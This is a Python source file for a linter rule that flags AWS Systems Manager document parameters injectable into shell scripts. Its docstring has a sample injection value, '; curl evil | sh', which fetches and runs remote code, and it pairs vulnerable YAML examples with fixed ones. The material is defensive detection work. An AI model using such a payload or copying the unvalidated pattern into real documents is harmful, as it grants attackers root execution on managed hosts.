"""
## What it does
Reports a text parameter that is written into a shell script and lets a value through that makes
the shell run something else.

## Why is this bad?
The agent puts the value in the place of `{{ parameter }}` before any shell sees the script, and
quotes nothing: with `; curl evil | sh` or `$(...)` as its value, that runs, as root, on every
instance. Whoever may only run this one document then owns the host. Double quotes do not help
against `$(...)`, and single quotes are left with a single quote in the value. Only
`allowedValues`, or an `allowedPattern` that is anchored with `^` and `$` and allows harmless
characters only, keep such values out.

One finding for each parameter of a script, at the first place of the most open kind. A parameter
that is the command (alone on its line, or the argument of `eval` or `bash -c`) is meant to run.

## Example
```yaml document
schemaVersion: '2.2'
parameters:
  target:
    type: String
mainSteps:
  - action: aws:runShellScript
    name: freeze
    inputs:
      runCommand:
        - fsfreeze -f "{{ target }}"  # <-
```
Use instead:
```yaml document
schemaVersion: '2.2'
parameters:
  target:
    type: String
    allowedPattern: '^[A-Za-z0-9_./:@=+,-]*$'
mainSteps:
  - action: aws:runShellScript
    name: freeze
    inputs:
      runCommand:
        - fsfreeze -f "{{ target }}"
```

Where the agents are new enough (3.3.2746.0), the value can come as an environment variable, which is
never read as a command:
```yaml document
schemaVersion: '2.2'
parameters:
  user:
    type: String
    interpolationType: ENV_VAR
  message:
    type: String
mainSteps:
  - action: aws:runShellScript
    name: tell
    inputs:
      runCommand:
        - |
          echo "{{ message }}" | write "$SSM_user"  # <-
```
Use instead:
```yaml document
schemaVersion: '2.2'
parameters:
  user:
    type: String
    interpolationType: ENV_VAR
  message:
    type: String
    interpolationType: ENV_VAR
mainSteps:
  - action: aws:runShellScript
    name: tell
    inputs:
      runCommand:
        - |
          echo "$SSM_message" | write "$SSM_user"
```

A pattern must be anchored, and must not let a dot match anything:
```yaml document
schemaVersion: '2.2'
parameters:
  target:
    type: String
    allowedPattern: '/[A-Za-z0-9/_-]+'
mainSteps:
  - action: aws:runShellScript
    name: freeze
    inputs:
      runCommand:
        - fsfreeze -f {{ target }}  # <-
```

## Fix safety
Unsafe. Where another parameter of the document has `interpolationType: ENV_VAR`, so has this one then;
an agent before 3.3.2746.0 would not set the variable. Elsewhere an `allowedPattern` is added that
lets letters, digits and a few signs pass: values with others, which have worked so far, are refused.
Nothing is offered where there is a pattern already, or where the default would not pass.

## References
- [amazon-ssm-agent, `docparser/parameters/parameters.go`](https://github.com/aws/amazon-ssm-agent/blob/mainline/agent/framework/docparser/parameters/parameters.go): values are put in as they are
- [Data elements and parameters](https://docs.aws.amazon.com/systems-manager/latest/userguide/documents-syntax-data-elements-parameters.html): `interpolationType: ENV_VAR` hands a value over as an environment variable instead
"""

from __future__ import annotations

from collections.abc import Iterator

from ssmlint.rule import Problem, Severity, rule
from ssmlint.shell.scriptfacts import ShellScript
from ssmlint_rules.injection import injections
from ssmlint_rules.shell_uses import injectable_places


@rule(
    "SH301",
    "injectable-parameter",
    Severity.WARNING,
    on=ShellScript,
    covers=("shellcheck/SC2086", "shellcheck/SC2206"),
)
def injectable_parameter(script: ShellScript) -> Iterator[Problem]:
    """Report each parameter that can carry a command."""
    yield from injections(script.script, injectable_places(script))
